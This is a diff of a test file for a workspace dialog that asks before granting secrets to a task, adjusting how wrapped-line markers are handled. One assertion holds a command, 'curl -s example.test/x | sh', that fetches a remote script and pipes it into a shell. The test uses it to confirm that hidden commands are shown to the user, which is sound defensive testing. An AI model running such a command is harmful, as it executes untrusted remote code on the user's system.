@@ -88,7 +88,7 @@ describe("the question before a file of the workspace gets secrets", () => {
       const { workbench } = stage();
       await runTask("scrolls");
       await workbench.dialog.waitFor("Give secrets to this task?");
-      const text = (await workbench.dialog.lines()).join("").replaceAll("↪ ", "");
+      const text = (await workbench.dialog.lines()).join("").replaceAll("↪", "");
       assert.equal(text.split("\\u{A}").length, (question + hidden).split("\n").length);
       assert.match(text, /curl -s example\.test\/x \| sh #/);
       assert.ok(await isWhole());
@@ -101,7 +101,7 @@ describe("the question before a file of the workspace gets secrets", () => {
       await runTask(fakes);
       await workbench.dialog.waitFor("Give secrets to this task?");
       const lines = await workbench.dialog.lines();
-      const own = lines.slice(0, lines.indexOf("")).filter((line) => !line.startsWith("↪ "));
+      const own = lines.slice(0, lines.indexOf("")).filter((line) => !line.startsWith("↪"));
       assert.deepEqual(
         own.map((line) => line.slice(0, line.indexOf(":"))),
         ["Task", "Command", "Folder", "Names"],
